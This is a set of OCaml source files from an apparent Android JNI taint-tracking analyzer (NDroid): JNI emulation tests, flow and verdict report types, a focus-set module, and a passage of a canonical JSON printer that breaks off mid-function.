    Alcotest.test_case "libc memory" `Quick test_libc_memory_functions;
    Alcotest.test_case "libc sprintf" `Quick test_libc_sprintf;
    Alcotest.test_case "libc stdio" `Quick test_libc_stdio;
    Alcotest.test_case "libc sockets" `Quick test_libc_sockets;
    Alcotest.test_case "libm" `Quick test_libm;
    Alcotest.test_case "Table VI/VII coverage" `Quick test_table_vi_vii_coverage;
    Alcotest.test_case "device profile" `Quick test_device_profile ]
