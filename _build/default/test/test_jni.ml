(* JNI primitives: indirect references, function taxonomy. *)

module Indirect_ref = Ndroid_jni.Indirect_ref
module Jni_names = Ndroid_jni.Jni_names

let test_iref_basics () =
  let t = Indirect_ref.create () in
  let r1 = Indirect_ref.add t ~obj_id:10 in
  let r2 = Indirect_ref.add t ~obj_id:20 in
  Alcotest.(check bool) "distinct" true (r1 <> r2);
  Alcotest.(check (option int)) "resolve r1" (Some 10) (Indirect_ref.resolve t r1);
  Alcotest.(check (option int)) "resolve r2" (Some 20) (Indirect_ref.resolve t r2);
  Alcotest.(check int) "count" 2 (Indirect_ref.count t)

let test_iref_reuse () =
  let t = Indirect_ref.create () in
  let r1 = Indirect_ref.add t ~obj_id:10 in
  let r1' = Indirect_ref.add t ~obj_id:10 in
  Alcotest.(check int) "same ref for same object" r1 r1'

let test_iref_delete () =
  let t = Indirect_ref.create () in
  let r = Indirect_ref.add t ~obj_id:7 in
  Indirect_ref.delete t r;
  Alcotest.(check (option int)) "stale after delete" None (Indirect_ref.resolve t r);
  Alcotest.(check (option int)) "reverse gone" None (Indirect_ref.iref_of_obj t 7)

let test_iref_shape () =
  let t = Indirect_ref.create () in
  let r = Indirect_ref.add t ~obj_id:3 in
  Alcotest.(check bool) "looks like an iref" true (Indirect_ref.is_iref r);
  Alcotest.(check bool) "high bit set" true (r land 0x80000000 <> 0);
  Alcotest.(check bool) "plain address is not" false (Indirect_ref.is_iref 0x41001000)

let prop_iref_unique =
  QCheck.Test.make ~name:"irefs are unique and resolvable" ~count:50
    QCheck.(int_bound 200)
    (fun n ->
      let t = Indirect_ref.create () in
      let refs = List.init (n + 1) (fun i -> Indirect_ref.add t ~obj_id:i) in
      let sorted = List.sort_uniq compare refs in
      List.length sorted = n + 1
      && List.for_all2
           (fun i r -> Indirect_ref.resolve t r = Some i)
           (List.init (n + 1) Fun.id) refs)

let test_function_groups () =
  Alcotest.(check bool) "dvmCallJNIMethod is entry" true
    (Jni_names.group_of "dvmCallJNIMethod" = Some Jni_names.Jni_entry);
  Alcotest.(check bool) "CallVoidMethodA is exit" true
    (Jni_names.group_of "CallVoidMethodA" = Some Jni_names.Jni_exit);
  Alcotest.(check bool) "NewStringUTF creates" true
    (Jni_names.group_of "NewStringUTF" = Some Jni_names.Object_creation);
  Alcotest.(check bool) "SetIntField is field access" true
    (Jni_names.group_of "SetIntField" = Some Jni_names.Field_access);
  Alcotest.(check bool) "ThrowNew is exception" true
    (Jni_names.group_of "ThrowNew" = Some Jni_names.Exception)

let test_call_method_families_expand () =
  (* Table II: 9 families x 10 types = 90 wrappers *)
  let exits =
    List.filter (fun (_, g) -> g = Jni_names.Jni_exit) Jni_names.functions
  in
  let wrappers =
    List.filter (fun (n, _) -> String.length n > 4 && String.sub n 0 4 = "Call") exits
  in
  Alcotest.(check int) "90 Call wrappers" 90 (List.length wrappers);
  Alcotest.(check int) "9 families" 9 (List.length Jni_names.call_method_families)

let test_field_table_expand () =
  (* Table IV over Object + 8 primitives, get/set, static/instance = 36 *)
  let fields =
    List.filter (fun (_, g) -> g = Jni_names.Field_access) Jni_names.functions
  in
  Alcotest.(check int) "36 field accessors" 36 (List.length fields)

let suite =
  [ Alcotest.test_case "iref basics" `Quick test_iref_basics;
    Alcotest.test_case "iref reuse" `Quick test_iref_reuse;
    Alcotest.test_case "iref delete" `Quick test_iref_delete;
    Alcotest.test_case "iref shape" `Quick test_iref_shape;
    Alcotest.test_case "function groups" `Quick test_function_groups;
    Alcotest.test_case "Table II expansion" `Quick test_call_method_families_expand;
    Alcotest.test_case "Table IV expansion" `Quick test_field_table_expand;
    QCheck_alcotest.to_alcotest prop_iref_unique ]
