(* Deeper JNI surface coverage: the V (va_list) and A (jvalue array) call
   variants, NewObjectA with a constructor, object arrays, global refs,
   ExceptionOccurred/Clear from native code. *)

module Device = Ndroid_runtime.Device
module Machine = Ndroid_emulator.Machine
module Layout = Ndroid_emulator.Layout
module Vm = Ndroid_dalvik.Vm
module Interp = Ndroid_dalvik.Interp
module Dvalue = Ndroid_dalvik.Dvalue
module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Taint = Ndroid_taint.Taint

let cls = "LSurface;"
let tv ?(taint = Taint.clear) v : Vm.tval = (v, taint)
let int32 n = Dvalue.Int (Int32.of_int n)
let mov rd rm = Asm.I (Insn.mov rd (Insn.Reg rm))
let movi rd v = Asm.I (Insn.mov rd (Insn.Imm v))

let boot classes lib_items =
  let device = Device.create () in
  Device.install_classes device classes;
  let extern name =
    match Machine.host_fn_addr (Device.machine device) name with
    | a -> Some a
    | exception Not_found -> None
  in
  let prog = Asm.assemble ~extern ~base:Layout.app_lib_base lib_items in
  Device.provide_library device "surface" prog;
  Device.load_library device "surface";
  device

(* shared: resolve class + static method id into r4/r5; expects env in r9 *)
let resolve_static ~cls_label ~name_label ~sig_label =
  [ mov 0 9;
    Asm.La (1, cls_label);
    Asm.Call "FindClass";
    Asm.I (Insn.mov 4 (Insn.Reg 0));
    mov 0 9;
    mov 1 4;
    Asm.La (2, name_label);
    Asm.La (3, sig_label);
    Asm.Call "GetStaticMethodID";
    Asm.I (Insn.mov 5 (Insn.Reg 0)) ]

let test_call_v_variant () =
  (* CallStaticIntMethodV: va_list = pointer to 4-byte words in memory *)
  let device =
    boot
      [ J.class_ ~name:cls
          [ J.native_method ~cls ~name:"driver" ~shorty:"I" "driver";
            J.method_ ~cls ~name:"sub" ~shorty:"III" ~registers:8
              [ J.I (B.Binop (B.Sub, 0, 6, 7)); J.I (B.Return 0) ] ] ]
      ([ Asm.Label "driver";
         Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.lr ]);
         Asm.I (Insn.mov 9 (Insn.Reg 0)) ]
       @ resolve_static ~cls_label:"c" ~name_label:"m" ~sig_label:"s"
       @ [ (* build the va_list: [50; 8] *)
           Asm.La (1, "valist");
           movi 2 50;
           Asm.I (Insn.str 2 1 0);
           movi 2 8;
           Asm.I (Insn.str 2 1 4);
           (* CallStaticIntMethodV(env, cls, mid, valist) *)
           mov 0 9;
           mov 1 4;
           mov 2 5;
           Asm.La (3, "valist");
           Asm.Call "CallStaticIntMethodV";
           Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.pc ]);
           Asm.Align4;
           Asm.Label "c";
           Asm.Asciz "LSurface;";
           Asm.Label "m";
           Asm.Asciz "sub";
           Asm.Label "s";
           Asm.Asciz "(II)I";
           Asm.Label "valist";
           Asm.Word 0;
           Asm.Word 0 ])
  in
  let v, _ = Device.run device cls "driver" [||] in
  Alcotest.(check bool) "50 - 8" true (Dvalue.equal v (int32 42))

let test_call_a_variant_jvalues () =
  (* CallStaticIntMethodA: jvalue array with 8-byte elements *)
  let device =
    boot
      [ J.class_ ~name:cls
          [ J.native_method ~cls ~name:"driver" ~shorty:"I" "driver";
            J.method_ ~cls ~name:"mul" ~shorty:"III" ~registers:8
              [ J.I (B.Binop (B.Mul, 0, 6, 7)); J.I (B.Return 0) ] ] ]
      ([ Asm.Label "driver";
         Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.lr ]);
         Asm.I (Insn.mov 9 (Insn.Reg 0)) ]
       @ resolve_static ~cls_label:"c" ~name_label:"m" ~sig_label:"s"
       @ [ Asm.La (1, "jvalues");
           movi 2 6;
           Asm.I (Insn.str 2 1 0) (* jvalue[0] = 6 *);
           movi 2 7;
           Asm.I (Insn.str 2 1 8) (* jvalue[1] = 7: 8-byte stride *);
           mov 0 9;
           mov 1 4;
           mov 2 5;
           Asm.La (3, "jvalues");
           Asm.Call "CallStaticIntMethodA";
           Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.pc ]);
           Asm.Align4;
           Asm.Label "c";
           Asm.Asciz "LSurface;";
           Asm.Label "m";
           Asm.Asciz "mul";
           Asm.Label "s";
           Asm.Asciz "(II)I";
           Asm.Label "jvalues";
           Asm.Word 0;
           Asm.Word 0;
           Asm.Word 0;
           Asm.Word 0 ])
  in
  let v, _ = Device.run device cls "driver" [||] in
  Alcotest.(check bool) "6 * 7" true (Dvalue.equal v (int32 42))

let test_new_object_with_ctor () =
  (* NewObjectA runs <init>; the native code then reads the field back *)
  let box = "LBox;" in
  let device =
    boot
      [ J.class_ ~name:box ~fields:[ "v" ]
          [ J.method_ ~cls:box ~name:"<init>" ~shorty:"VI" ~static:false
              ~registers:6
              [ J.I (B.Iput (5, 4, { B.f_class = box; f_name = "v" }));
                J.I B.Return_void ] ];
        J.class_ ~name:cls
          [ J.native_method ~cls ~name:"driver" ~shorty:"I" "driver" ] ]
      [ Asm.Label "driver";
        Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.lr ]);
        Asm.I (Insn.mov 9 (Insn.Reg 0));
        (* cls = FindClass("LBox;"), mid = GetMethodID(cls, "<init>", "(I)V") *)
        mov 0 9;
        Asm.La (1, "box_c");
        Asm.Call "FindClass";
        Asm.I (Insn.mov 4 (Insn.Reg 0));
        mov 0 9;
        mov 1 4;
        Asm.La (2, "init_n");
        Asm.La (3, "init_s");
        Asm.Call "GetMethodID";
        Asm.I (Insn.mov 5 (Insn.Reg 0));
        (* obj = NewObjectA(cls, mid, {99}) *)
        Asm.La (1, "ctor_args");
        movi 2 99;
        Asm.I (Insn.str 2 1 0);
        mov 0 9;
        mov 1 4;
        mov 2 5;
        Asm.La (3, "ctor_args");
        Asm.Call "NewObjectA";
        Asm.I (Insn.mov 6 (Insn.Reg 0));
        (* fid = GetFieldID(cls, "v", "I"); return GetIntField(obj, fid) *)
        mov 0 9;
        mov 1 4;
        Asm.La (2, "f_n");
        Asm.La (3, "f_s");
        Asm.Call "GetFieldID";
        mov 2 0;
        mov 1 6;
        mov 0 9;
        Asm.Call "GetIntField";
        Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.pc ]);
        Asm.Align4;
        Asm.Label "box_c";
        Asm.Asciz "LBox;";
        Asm.Label "init_n";
        Asm.Asciz "<init>";
        Asm.Label "init_s";
        Asm.Asciz "(I)V";
        Asm.Label "f_n";
        Asm.Asciz "v";
        Asm.Label "f_s";
        Asm.Asciz "I";
        Asm.Label "ctor_args";
        Asm.Word 0;
        Asm.Word 0 ]
  in
  let v, _ = Device.run device cls "driver" [||] in
  Alcotest.(check bool) "ctor stored the field" true (Dvalue.equal v (int32 99))

let test_object_array_and_global_ref () =
  (* build a String[], put/get an element, pin it with NewGlobalRef, survive
     a GC, read the string *)
  let device =
    boot
      [ J.class_ ~name:cls
          [ J.native_method ~cls ~name:"pin" ~shorty:"LL" "pin" ] ]
      [ Asm.Label "pin";
        Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.lr ]);
        Asm.I (Insn.mov 9 (Insn.Reg 0));
        Asm.I (Insn.mov 4 (Insn.Reg 2)) (* the string argument *);
        (* gref = NewGlobalRef(str) *)
        mov 1 4;
        Asm.Call "NewGlobalRef";
        Asm.I (Insn.mov 5 (Insn.Reg 0));
        (* arr = NewObjectArray(1, <ignored>, null); arr[0] = gref *)
        mov 0 9;
        movi 1 1;
        movi 2 1;
        Asm.Call "NewObjectArray";
        mov 1 0;
        movi 2 0;
        mov 3 5;
        Asm.I (Insn.push [ Insn.r1 ]) (* keep arr *);
        mov 0 9;
        Asm.Call "SetObjectArrayElement";
        Asm.I (Insn.pop [ Insn.r1 ]);
        (* return GetObjectArrayElement(arr, 0) *)
        movi 2 0;
        mov 0 9;
        Asm.Call "GetObjectArrayElement";
        Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.pc ]) ]
  in
  let vm = Device.vm device in
  let s, t = Vm.new_string vm ~taint:Taint.contacts "pinned" in
  let v, _ = Device.run device cls "pin" [| (s, t) |] in
  Device.gc device;
  Alcotest.(check string) "string back out of the array" "pinned"
    (Vm.string_of_value vm v)

let test_exception_occurred_and_clear () =
  (* native throws, checks ExceptionOccurred, clears, and returns normally:
     the Java side must NOT see an exception *)
  let device =
    boot
      [ J.class_ ~name:cls
          [ J.native_method ~cls ~name:"recover" ~shorty:"I" "recover" ] ]
      [ Asm.Label "recover";
        Asm.I (Insn.push [ Insn.r4; Insn.lr ]);
        Asm.I (Insn.mov 9 (Insn.Reg 0));
        mov 0 9;
        Asm.La (1, "exn_c");
        Asm.Call "FindClass";
        mov 1 0;
        Asm.La (2, "msg");
        mov 0 9;
        Asm.Call "ThrowNew";
        (* pending? *)
        mov 0 9;
        Asm.Call "ExceptionOccurred";
        Asm.I (Insn.cmp 0 (Insn.Imm 0));
        Asm.Br (Insn.EQ, "no_exn");
        mov 0 9;
        Asm.Call "ExceptionClear";
        movi 0 1;
        Asm.I (Insn.pop [ Insn.r4; Insn.pc ]);
        Asm.Label "no_exn";
        movi 0 0;
        Asm.I (Insn.pop [ Insn.r4; Insn.pc ]);
        Asm.Align4;
        Asm.Label "exn_c";
        Asm.Asciz "Ljava/lang/SecurityException;";
        Asm.Label "msg";
        Asm.Asciz "transient" ]
  in
  let v, _ = Device.run device cls "recover" [||] in
  Alcotest.(check bool) "saw and cleared the exception" true
    (Dvalue.equal v (int32 1))

let test_nonvirtual_call () =
  (* CallNonvirtualIntMethod must use the named class, not the dynamic type *)
  let base = "LBase;" and sub = "LSub2;" in
  let device =
    boot
      [ J.class_ ~name:base
          [ J.method_ ~cls:base ~name:"who" ~shorty:"I" ~static:false ~registers:4
              [ J.I (B.Const (0, int32 1)); J.I (B.Return 0) ] ];
        J.class_ ~name:sub ~super:base
          [ J.method_ ~cls:sub ~name:"who" ~shorty:"I" ~static:false ~registers:4
              [ J.I (B.Const (0, int32 2)); J.I (B.Return 0) ] ];
        J.class_ ~name:cls
          [ J.native_method ~cls ~name:"callBase" ~shorty:"IL" "callBase" ] ]
      [ Asm.Label "callBase";
        Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.lr ]);
        Asm.I (Insn.mov 9 (Insn.Reg 0));
        Asm.I (Insn.mov 4 (Insn.Reg 2)) (* the receiver (a Sub2) *);
        mov 0 9;
        Asm.La (1, "base_c");
        Asm.Call "FindClass";
        mov 1 0;
        Asm.La (2, "who_n");
        Asm.La (3, "who_s");
        mov 0 9;
        Asm.Call "GetMethodID";
        mov 2 0;
        mov 1 4;
        mov 0 9;
        Asm.Call "CallIntMethod";
        Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.pc ]);
        Asm.Align4;
        Asm.Label "base_c";
        Asm.Asciz "LBase;";
        Asm.Label "who_n";
        Asm.Asciz "who";
        Asm.Label "who_s";
        Asm.Asciz "()I" ]
  in
  let vm = Device.vm device in
  let o = Ndroid_dalvik.Heap.alloc_instance vm.Vm.heap sub 0 in
  let v, _ =
    Device.run device cls "callBase" [| tv (Dvalue.Obj o.Ndroid_dalvik.Heap.id) |]
  in
  (* CallIntMethod is virtual: dispatches to the Sub2 override *)
  Alcotest.(check bool) "virtual dispatch through JNI" true
    (Dvalue.equal v (int32 2))

let suite =
  [ Alcotest.test_case "Call...MethodV (va_list)" `Quick test_call_v_variant;
    Alcotest.test_case "Call...MethodA (jvalue stride 8)" `Quick
      test_call_a_variant_jvalues;
    Alcotest.test_case "NewObjectA runs the constructor" `Quick
      test_new_object_with_ctor;
    Alcotest.test_case "object array + global ref + GC" `Quick
      test_object_array_and_global_ref;
    Alcotest.test_case "ExceptionOccurred / ExceptionClear" `Quick
      test_exception_occurred_and_clear;
    Alcotest.test_case "virtual dispatch through CallIntMethod" `Quick
      test_nonvirtual_call ]
