(** One source→sink information flow, shared by both analyses.

    The static supergraph analyzer and the dynamic sink monitor used to
    report flows with two unrelated record types; this is the single shape
    both now produce.  Field names keep the static analyzer's [f_]
    convention so [Ndroid_static.Flow] can re-export this type verbatim.

    A flow may carry a provenance chain: ordered hops from the source,
    through Dalvik registers and the JNI crossing, along native taint
    assignments, down to the sink — reconstructed from the observability
    event stream.  Hops are evidence, not identity: {!key}, {!compare} and
    {!equal} ignore them so static and dynamic reports of the same leak
    still deduplicate. *)

module Taint = Ndroid_taint.Taint

type context = Java_ctx | Native_ctx

type hop = {
  h_kind : string;  (** ["source"], ["dalvik"], ["jni"], ["native"], ["sink"] *)
  h_site : string;  (** human-readable location / value at that hop *)
}

type t = {
  f_taint : Taint.t;  (** categories that reached the sink *)
  f_sink : string;  (** short sink name, e.g. ["send"] *)
  f_context : context;  (** which side of the JNI boundary leaked *)
  f_site : string;  (** call site / destination detail *)
  f_hops : hop list;  (** source→sink provenance chain; [[]] if unknown *)
}

val context_name : context -> string
val context_of_name : string -> context option

val pp : Format.formatter -> t -> unit
val pp_hop : Format.formatter -> hop -> unit
val to_string : t -> string

val key : t -> string * string * string * int
(** Deduplication key (sink, context, site, taint bits); ignores hops. *)

val compare : t -> t -> int
(** Total order used for the canonical flow ordering in reports. *)

val equal : t -> t -> bool

val hop_to_json : hop -> Json.t
val hop_of_json : Json.t -> (hop, string) result

val to_json : t -> Json.t
(** Emits a ["provenance"] array when [f_hops] is non-empty. *)

val of_json : Json.t -> (t, string) result
(** A missing ["provenance"] field decodes as [f_hops = []], so reports
    written before provenance existed still load. *)
