(** One source→sink information flow, shared by both analyses.

    The static supergraph analyzer and the dynamic sink monitor used to
    report flows with two unrelated record types; this is the single shape
    both now produce.  Field names keep the static analyzer's [f_]
    convention so [Ndroid_static.Flow] can re-export this type verbatim. *)

module Taint = Ndroid_taint.Taint

type context = Java_ctx | Native_ctx

type t = {
  f_taint : Taint.t;  (** categories that reached the sink *)
  f_sink : string;  (** short sink name, e.g. ["send"] *)
  f_context : context;  (** which side of the JNI boundary leaked *)
  f_site : string;  (** call site / destination detail *)
}

val context_name : context -> string
val context_of_name : string -> context option

val pp : Format.formatter -> t -> unit
val to_string : t -> string

val key : t -> string * string * string * int
(** Deduplication key (sink, context, site, taint bits). *)

val compare : t -> t -> int
(** Total order used for the canonical flow ordering in reports. *)

val equal : t -> t -> bool

val to_json : t -> Json.t
val of_json : Json.t -> (t, string) result
