(** The unified analysis verdict.

    Every analysis path — the static JNI supergraph, the dynamic NDroid
    run, and the batch pipeline driving either — resolves to this one
    variant, with one canonical JSON codec.  [Crashed] and [Timeout] exist
    because a market sweep treats a worker dying on a pathological APK or
    overrunning its per-app budget as first-class results, not as lost
    work. *)

type t =
  | Clean
  | Flagged of Flow.t list  (** at least one source→sink flow *)
  | Crashed of string  (** analysis died; the payload says how *)
  | Timeout  (** per-app wall-clock budget exhausted *)

val normalize : t -> t
(** Canonical form: [Flagged] flows deduplicated and sorted, and
    [Flagged []] collapsed to [Clean].  The codecs below normalize on the
    way out and in, so two verdicts that mean the same thing serialize
    identically. *)

val flagged : t -> bool
val flows : t -> Flow.t list

val equal : t -> t -> bool
(** Up to {!normalize}. *)

val pp : Format.formatter -> t -> unit

val to_json : t -> Json.t
val of_json : Json.t -> (t, string) result

(** {1 Per-app reports}

    What the pipeline (and `ndroid analyze --json`) emits per app: the
    verdict plus deterministic metadata (counters, classification).
    Timing never goes here — wall-clock metadata would break the
    bit-identical [--jobs 1] vs [--jobs N] guarantee — it lives in the
    pool's aggregate stats instead. *)

type report = {
  r_app : string;
  r_analysis : string;  (** ["static"], ["dynamic"] or ["both"] *)
  r_verdict : t;
  r_meta : (string * Json.t) list;  (** deterministic counters only *)
}

val report_equal : report -> report -> bool
val pp_report : Format.formatter -> report -> unit

val report_to_json : report -> Json.t
val report_of_json : Json.t -> (report, string) result

val reports_to_json : report list -> Json.t
val reports_of_json : Json.t -> (report list, string) result
