(* The static slice's hand-off to the dynamic tracker: which Dalvik
   methods, native exported functions, and JNI crossings lie on a feasible
   source->sink path.  Kept in ndroid.report because both the static
   analyzer (producer) and the core tracker (consumer) depend on it. *)

type t = {
  methods : string list;  (* qualified "Lcls;->name" Dalvik methods *)
  natives : string list;  (* exported native function symbols *)
  crossings : string list;  (* JNI crossing labels, e.g. "Lcls;->m => sym" *)
}

let empty = { methods = []; natives = []; crossings = [] }

let is_empty f = f.methods = [] && f.natives = [] && f.crossings = []

let dedup xs =
  let tbl = Hashtbl.create 16 in
  List.filter
    (fun x ->
      if Hashtbl.mem tbl x then false
      else begin
        Hashtbl.add tbl x ();
        true
      end)
    xs

let make ~methods ~natives ~crossings =
  { methods = dedup methods;
    natives = dedup natives;
    crossings = dedup crossings }

let union a b =
  make ~methods:(a.methods @ b.methods) ~natives:(a.natives @ b.natives)
    ~crossings:(a.crossings @ b.crossings)

let qualified ~cls ~name = cls ^ "->" ^ name
let mem_method f ~cls ~name = List.mem (qualified ~cls ~name) f.methods
let mem_native f sym = List.mem sym f.natives

let size f =
  List.length f.methods + List.length f.natives + List.length f.crossings

let pp ppf f =
  Fmt.pf ppf "focus{methods=[%a]; natives=[%a]; crossings=[%a]}"
    Fmt.(list ~sep:(any "; ") string)
    f.methods
    Fmt.(list ~sep:(any "; ") string)
    f.natives
    Fmt.(list ~sep:(any "; ") string)
    f.crossings

let strings_to_json xs = Json.List (List.map (fun s -> Json.Str s) xs)

let strings_of_json = function
  | Json.List items ->
    let rec go acc = function
      | [] -> Ok (List.rev acc)
      | Json.Str s :: rest -> go (s :: acc) rest
      | _ -> Error "focus: expected string array"
    in
    go [] items
  | _ -> Error "focus: expected array"

let to_json f =
  Json.Obj
    [ ("methods", strings_to_json f.methods);
      ("natives", strings_to_json f.natives);
      ("crossings", strings_to_json f.crossings) ]

let of_json = function
  | Json.Obj fields ->
    let strs key =
      match List.assoc_opt key fields with
      | None -> Ok []
      | Some j -> strings_of_json j
    in
    Result.bind (strs "methods") (fun methods ->
        Result.bind (strs "natives") (fun natives ->
            Result.bind (strs "crossings") (fun crossings ->
                Ok { methods; natives; crossings })))
  | _ -> Error "focus: expected object"
