(** Minimal JSON document type with a canonical, deterministic printer.

    Every JSON the toolchain emits — `ndroid analyze --json`, the pipeline
    wire protocol, the on-disk result cache, the BENCH_*.json experiment
    records — goes through this one printer, so byte-for-byte comparison of
    outputs is meaningful: object keys are sorted, there is no insignificant
    whitespace, and numbers print the same way everywhere.  The parser
    accepts exactly what the printer produces (plus whitespace), which is
    all the round-trip the cache and [of_json] decoders need. *)

type t =
  | Null
  | Bool of bool
  | Int of int
  | Float of float
  | Str of string
  | List of t list
  | Obj of (string * t) list  (** key order is irrelevant: printing sorts *)

val to_string : t -> string
(** Canonical form: sorted object keys, no whitespace, strings escaped,
    floats as shortest round-trippable decimal. *)

val to_string_hum : t -> string
(** Same canonical key order, but indented for human eyes (used by the
    BENCH_*.json writers). *)

val of_string : string -> (t, string) result
(** Parse a JSON document.  [Error msg] carries the byte offset. *)

(** {1 Decoding helpers} *)

val member : string -> t -> t option
val str : t -> string option
val int : t -> int option
val bool : t -> bool option
val list : t -> t list option
