module Taint = Ndroid_taint.Taint

type context = Java_ctx | Native_ctx

type hop = {
  h_kind : string;
  h_site : string;
}

type t = {
  f_taint : Taint.t;
  f_sink : string;
  f_context : context;
  f_site : string;
  f_hops : hop list;
}

let context_name = function Java_ctx -> "java" | Native_ctx -> "native"

let context_of_name = function
  | "java" -> Some Java_ctx
  | "native" -> Some Native_ctx
  | _ -> None

let pp_hop ppf h = Format.fprintf ppf "%s:%s" h.h_kind h.h_site

let pp ppf f =
  Format.fprintf ppf "%a -> %s [%s context, at %s]" Taint.pp f.f_taint f.f_sink
    (context_name f.f_context) f.f_site;
  match f.f_hops with
  | [] -> ()
  | hops ->
    Format.fprintf ppf " via %a"
      (Format.pp_print_list
         ~pp_sep:(fun ppf () -> Format.fprintf ppf " -> ")
         pp_hop)
      hops

let to_string f = Format.asprintf "%a" pp f

(* Provenance hops are evidence, not identity: two reports of the same
   leak (say one static, one dynamic) must still deduplicate. *)
let key f =
  (f.f_sink, context_name f.f_context, f.f_site, Taint.to_bits f.f_taint)

let compare a b = Stdlib.compare (key a) (key b)
let equal a b = compare a b = 0

let hop_to_json h =
  Json.Obj [ ("kind", Json.Str h.h_kind); ("site", Json.Str h.h_site) ]

let hop_of_json j =
  match (Json.member "kind" j, Json.member "site" j) with
  | Some k, Some s -> (
    match (Json.str k, Json.str s) with
    | Some h_kind, Some h_site -> Ok { h_kind; h_site }
    | _ -> Error "hop fields are not strings")
  | _ -> Error "hop is missing kind/site"

let to_json f =
  let base =
    [ ("taint", Json.Str (Printf.sprintf "0x%x" (Taint.to_bits f.f_taint)));
      ("sink", Json.Str f.f_sink);
      ("context", Json.Str (context_name f.f_context));
      ("site", Json.Str f.f_site) ]
  in
  let base =
    match f.f_hops with
    | [] -> base
    | hops -> base @ [ ("provenance", Json.List (List.map hop_to_json hops)) ]
  in
  Json.Obj base

let of_json j =
  let field name =
    match Json.member name j with
    | Some v -> (
      match Json.str v with
      | Some s -> Ok s
      | None -> Error (Printf.sprintf "flow field %S is not a string" name))
    | None -> Error (Printf.sprintf "flow is missing field %S" name)
  in
  let ( let* ) = Result.bind in
  let* taint_s = field "taint" in
  let* sink = field "sink" in
  let* context_s = field "context" in
  let* site = field "site" in
  let* bits =
    match int_of_string_opt taint_s with
    | Some b -> Ok b
    | None -> Error (Printf.sprintf "bad taint bits %S" taint_s)
  in
  let* context =
    match context_of_name context_s with
    | Some c -> Ok c
    | None -> Error (Printf.sprintf "bad flow context %S" context_s)
  in
  (* pre-provenance reports simply lack the field *)
  let* hops =
    match Json.member "provenance" j with
    | None -> Ok []
    | Some (Json.List items) ->
      List.fold_left
        (fun acc item ->
          let* acc = acc in
          let* h = hop_of_json item in
          Ok (h :: acc))
        (Ok []) items
      |> Result.map List.rev
    | Some _ -> Error "flow provenance is not a list"
  in
  Ok { f_taint = Taint.of_bits bits; f_sink = sink; f_context = context;
       f_site = site; f_hops = hops }
