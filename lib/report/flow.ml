module Taint = Ndroid_taint.Taint

type context = Java_ctx | Native_ctx

type t = {
  f_taint : Taint.t;
  f_sink : string;
  f_context : context;
  f_site : string;
}

let context_name = function Java_ctx -> "java" | Native_ctx -> "native"

let context_of_name = function
  | "java" -> Some Java_ctx
  | "native" -> Some Native_ctx
  | _ -> None

let pp ppf f =
  Format.fprintf ppf "%a -> %s [%s context, at %s]" Taint.pp f.f_taint f.f_sink
    (context_name f.f_context) f.f_site

let to_string f = Format.asprintf "%a" pp f

let key f =
  (f.f_sink, context_name f.f_context, f.f_site, Taint.to_bits f.f_taint)

let compare a b = Stdlib.compare (key a) (key b)
let equal a b = compare a b = 0

let to_json f =
  Json.Obj
    [ ("taint", Json.Str (Printf.sprintf "0x%x" (Taint.to_bits f.f_taint)));
      ("sink", Json.Str f.f_sink);
      ("context", Json.Str (context_name f.f_context));
      ("site", Json.Str f.f_site) ]

let of_json j =
  let field name =
    match Json.member name j with
    | Some v -> (
      match Json.str v with
      | Some s -> Ok s
      | None -> Error (Printf.sprintf "flow field %S is not a string" name))
    | None -> Error (Printf.sprintf "flow is missing field %S" name)
  in
  let ( let* ) = Result.bind in
  let* taint_s = field "taint" in
  let* sink = field "sink" in
  let* context_s = field "context" in
  let* site = field "site" in
  let* bits =
    match int_of_string_opt taint_s with
    | Some b -> Ok b
    | None -> Error (Printf.sprintf "bad taint bits %S" taint_s)
  in
  let* context =
    match context_of_name context_s with
    | Some c -> Ok c
    | None -> Error (Printf.sprintf "bad flow context %S" context_s)
  in
  Ok { f_taint = Taint.of_bits bits; f_sink = sink; f_context = context;
       f_site = site }
