(** Focus set: the static slice's hand-off to the dynamic tracker.

    A focus set names the exact Dalvik methods, native exported functions,
    and JNI crossings on some feasible source→sink path.  The hybrid
    pipeline computes one statically ([Ndroid_static.Slice]) and threads it
    into [Ndroid_core.Ndroid.attach ~focus], which keeps taint tracking off
    until control enters a focused method or native function. *)

type t = {
  methods : string list;  (** qualified ["Lcls;->name"] Dalvik methods *)
  natives : string list;  (** exported native function symbols *)
  crossings : string list;  (** JNI crossing labels *)
}

val empty : t
val is_empty : t -> bool

val make :
  methods:string list -> natives:string list -> crossings:string list -> t
(** Deduplicates each component, preserving first-seen order. *)

val union : t -> t -> t

val qualified : cls:string -> name:string -> string
(** ["Lcls;" ^ "->" ^ name], the method spelling used in [methods]. *)

val mem_method : t -> cls:string -> name:string -> bool
val mem_native : t -> string -> bool
val size : t -> int
val pp : Format.formatter -> t -> unit
val to_json : t -> Json.t
val of_json : Json.t -> (t, string) result
