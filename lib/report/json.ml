type t =
  | Null
  | Bool of bool
  | Int of int
  | Float of float
  | Str of string
  | List of t list
  | Obj of (string * t) list

let escape s =
  let buf = Buffer.create (String.length s + 8) in
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string buf "\\\""
      | '\\' -> Buffer.add_string buf "\\\\"
      | '\n' -> Buffer.add_string buf "\\n"
      | '\r' -> Buffer.add_string buf "\\r"
      | '\t' -> Buffer.add_string buf "\\t"
      | c when Char.code c < 32 ->
        Buffer.add_string buf (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char buf c)
    s;
  Buffer.contents buf

let float_repr f =
  if Float.is_integer f && Float.abs f < 1e15 then Printf.sprintf "%.1f" f
  else
    (* shortest representation that round-trips *)
    let s = Printf.sprintf "%.12g" f in
    let s' = Printf.sprintf "%.17g" f in
    if float_of_string s = f then s else s'

let sort_fields fields =
  List.sort (fun (a, _) (b, _) -> String.compare a b) fields

let rec write ~indent ~level buf j =
  let nl pad =
    if indent then begin
      Buffer.add_char buf '\n';
